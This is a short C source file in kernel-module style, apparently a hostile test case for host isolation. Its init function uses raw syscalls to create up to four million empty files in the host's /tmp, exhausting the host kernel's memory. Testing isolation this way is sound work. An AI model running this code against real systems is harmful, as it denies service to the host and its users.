// SPDX-License-Identifier: GPL-2.0
/* Empty files take nothing of the place in /tmp, but memory of the host's kernel. */
#include "raw.h"

#define O_CREAT_HOST 0100
#define MOST 4000000

static int __init hostile_init(void)
{
	char path[] = "/tmp/000000";
	int n, at, rest;

	for (n = 0; n < MOST; n++) {
		for (at = 10, rest = n; at >= 5; at--, rest /= 26)
			path[at] = 'a' + rest % 26;
		raw1(SYS_CLOSE, raw3(SYS_OPEN, path, O_CREAT_HOST, 0600));
	}
	return 0;
}

module_init(hostile_init);
